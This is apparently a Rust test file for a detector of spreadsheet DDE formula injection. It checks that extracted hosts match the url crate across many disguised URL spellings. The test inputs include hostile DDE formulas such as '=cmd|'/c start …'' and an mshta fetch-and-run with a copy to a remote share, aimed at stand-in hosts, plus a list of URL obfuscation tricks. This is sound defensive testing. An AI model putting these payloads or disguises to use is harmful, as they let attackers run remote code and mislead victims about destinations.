//! Hosts of addresses, against the parser of the `url` crate (URL Standard of the WHATWG): what
//! both call the host must be the same, however the address is spelled.

use ddetect::{Analyzer, IndicatorKind, Input, TechniqueId};
use url::{Host, Url};

const ADDRESSES: &[&str] = &[
    "http://example.com/",
    "https://example.com",
    "http://example.com:8080/a.ps1",
    "HTTP://EXAMPLE.COM/A",
    "ftp://files.example.com/a.exe",
    "ftp://user:pw@files.example.com/a.exe",
    "http://a.b.c.d.example/x?y=z",
    "http://example.com?x=1",
    "http://xn--bcher-kva.example/",
    "http://a_b.example.com/x",
    "http://a-b.example.com/x",
    "http://localhost/",
    "http://intranet/share/a.dotm",
    "http://1.2.3.4/",
    "http://1.2.3.4:8080/x.dat",
    "http://1.2.3/",
    "http://1.2/",
    "http://127.1/a",
    "http://2130706433/",
    "http://2130706433:80/a",
    "http://3232235777/a",
    "http://0x7f000001/",
    "http://0x7F.0.0.1/",
    "http://0x7f.1/",
    "http://0X7F.0X1/",
    "http://017700000001/",
    "http://0177.0.0.1/",
    "http://0300.0250.1.1/",
    "http://192.168.257/",
    "http://0xC0A80101/a",
    "http://0xc0.0xa8.1.1/",
    "http://0300.168.0x1.1/",
    "http://4294967295/",
    "http://0/",
    "http://00000177.1/",
    "http://0x00000000000000007f.1/",
    "http://1.2.3.4./",
    "http://example.com./a",
    "http://microsoft.com@evil.example/",
    "http://microsoft.com@2130706433/",
    "http://microsoft.com@0x7f.1/a",
    "http://microsoft.com:80@evil.example:8080/",
    "http://a@b@evil.example/",
    "http://a:b:c@evil.example/",
    "http://www.office.com%2Fx@evil.example/",
    "http://@evil.example/",
    "http://%65vil.example/",
    "http://%65%76%69%6c%2eexample/",
    "http://%31%32%37.1/",
    "http://evil%2Eexample/",
    "http:\\\\evil.example\\a.exe",
    "https:\\\\evil.example/a.exe",
    "http:/\\evil.example/a",
    "http:\\/evil.example/a",
    "http:/evil.example/a",
    "http:///evil.example/a",
    "http:////evil.example/a",
    "http://\\evil.example/a",
    "http://evil.example\\@good.example/",
    "http://evil.example/@good.example/",
    "http://evil.example?@good.example/",
    "http://evil.example#@good.example/",
    "http://[::1]/",
    "http://[::1]:8080/a",
    "http://[2001:DB8::1]/a",
    "http://user@[2001:db8::1]:80/a",
    "http://[::ffff:1.2.3.4]/a",
    "http://[2001:db8:0:0:0:0:0:1]/",
    "http://0x7f.0x0.0x0.0x1:443/a",
    "https://evil.example:443/",
    "https://evil.example:/a",
    "wss://evil.example/socket",
    "http://sub.evil.example/http://good.example/",
    "http://evil.example/?u=http://good.example/",
];

/// What the oracle says, without the final dot, which both names mean.
fn expected(address: &str) -> (IndicatorKind, String) {
    let url = Url::parse(address).unwrap_or_else(|error| panic!("{address}: {error}"));
    match url.host().unwrap() {
        Host::Domain(name) => (IndicatorKind::Host, name.trim_end_matches('.').to_owned()),
        Host::Ipv4(number) => (IndicatorKind::Ip, number.to_string()),
        Host::Ipv6(number) => (IndicatorKind::Ip, number.to_string()),
    }
}

#[test]
fn the_url_crate_finds_the_same_host() {
    assert!(ADDRESSES.len() >= 60);
    for address in ADDRESSES {
        // In the sheet the address stands as it is: nothing there undoes a backslash.
        let sheet = format!("=cmd|'/c start {address}'!A0\r\n");
        let report = Analyzer::default().analyze(Input::new(sheet.as_bytes()).name("a.csv"));
        let finding = &report.findings()[0];
        let host = finding
            .indicators
            .iter()
            .find(|named| matches!(named.kind, IndicatorKind::Host | IndicatorKind::Ip));
        let host = host.unwrap_or_else(|| panic!("{address}: {:?}", finding.indicators));
        let canonical = host.canonical.as_ref().unwrap_or(&host.value);
        let (kind, name) = expected(address);
        assert_eq!(
            (host.kind, canonical.as_str()),
            (kind, name.as_str()),
            "{address}"
        );

        // The canonical spelling is an address of the same place, without any tricks.
        let url = &finding.indicators[0];
        assert_eq!(url.kind, IndicatorKind::Url, "{address}");
        let plain = url.canonical.as_ref().unwrap_or(&url.value);
        assert_eq!(expected(plain), (kind, name), "{address}");
        assert!(
            !plain.contains('@') || plain.ends_with("@good.example/"),
            "{plain}"
        );
    }
}

#[test]
fn disguises_are_named() {
    for (address, disguised) in [
        ("http://microsoft.com@evil.example/", true),
        ("http://2130706433/", true),
        ("http:\\\\evil.example\\", true),
        ("http://EVIL.example/A", false),
        ("http://1.2.3.4/", false),
    ] {
        let sheet = format!("=cmd|'/c start {address}'!A0\r\n");
        let report = Analyzer::default().analyze(Input::new(sheet.as_bytes()).name("a.csv"));
        let shown = report.findings()[0]
            .techniques
            .iter()
            .any(|technique| technique.id == TechniqueId::UrlDisguise);
        assert_eq!(shown, disguised, "{address}");
    }
}

/// The bytes that `source` names are the value.
#[test]
fn sources_select_what_they_name() {
    let sheet =
        "=cmd|'/c mshta http://a.example/x.hta & copy C:\\t\\a.exe \\\\h.example\\s\\b.exe'!A0";
    let report = Analyzer::default().analyze(Input::new(sheet.as_bytes()).name("a.csv"));
    let finding = &report.findings()[0];
    assert!(finding.indicators.len() >= 5, "{:?}", finding.indicators);
    for named in &finding.indicators {
        let text = match named.source.text.to_string().as_str() {
            "topic" => finding.topic.as_deref(),
            "arguments" => finding.command.as_ref().unwrap().arguments.as_deref(),
            _ => continue,
        };
        let span = text.and_then(|text| text.get(named.source.start..named.source.end));
        assert_eq!(span, Some(named.value.as_str()));
    }
}
